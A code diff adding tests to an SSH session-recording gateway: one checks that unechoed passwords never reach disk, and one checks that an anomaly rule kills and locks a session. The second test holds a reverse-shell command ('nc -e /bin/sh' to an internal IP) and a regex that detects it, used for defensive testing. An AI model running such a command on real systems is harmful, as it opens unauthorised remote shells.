@@ -115,3 +115,48 @@ async def _session_rows(gateway: Gateway) -> dict[str, dict[str, object]]:
     async with gateway.services.maker() as db:
         rows = (await db.execute(sa.select(sessions))).all()
     return {r.id: dict(r._mapping) for r in rows}
+
+
+async def test_secret_typed_without_echo_is_nowhere_on_disk(gateway: Gateway) -> None:
+    await gateway.grant("alice")
+    secret = b"N0t-Echoed-S3cret-42"
+    proc = await asyncio.create_subprocess_exec(
+        *gateway.ssh_args("alice", LOGIN, "-tt"),
+        stdin=asyncio.subprocess.PIPE,
+        stdout=asyncio.subprocess.PIPE,
+        stderr=asyncio.subprocess.PIPE,
+    )
+    assert proc.stdin is not None and proc.stdout is not None
+    # The prompt is assembled at run time so the echo of this line does not contain it.
+    proc.stdin.write(b'P=Pass; read -s -p "${P}word: " PW; echo; echo got-${#PW}-chars\r')
+    buffer = b""
+    while b"Password: " not in buffer:
+        buffer += await asyncio.wait_for(proc.stdout.read(1024), 30)
+    proc.stdin.write(secret + b"\r")
+    while b"got-20-chars" not in buffer:
+        buffer += await asyncio.wait_for(proc.stdout.read(1024), 30)
+    proc.stdin.write(b"exit\r")
+    await asyncio.wait_for(proc.communicate(), 30)
+    for _ in range(100):
+        if not gateway.gw.registry.sessions:
+            break
+        await asyncio.sleep(0.05)
+    files = [p for p in gateway.workdir.rglob("*") if p.is_file()]
+    assert any(p.suffix == ".lgrec" for p in files)
+    for path in files:
+        assert secret not in path.read_bytes(), path
+
+
+async def test_kill_and_lock_rule(gateway: Gateway) -> None:
+    import re
+
+    from recorder.anomaly import AnomalyEngine, AnomalyRule
+
+    gateway.gw.anomaly = AnomalyEngine(
+        [AnomalyRule("exfil", "command", re.compile(r"\bnc\s+-e\b"), "kill_and_lock")]
+    )
+    await gateway.grant("alice")
+    code, _, err = await gateway.ssh("alice", LOGIN, "nc -e /bin/sh 10.0.0.1 4444")
+    assert code != 0 and b"session terminated: anomaly rule exfil" in err
+    code, _, err = await gateway.ssh("alice", LOGIN, "true")
+    assert code != 0 and b"user alice is locked: anomaly rule exfil" in err
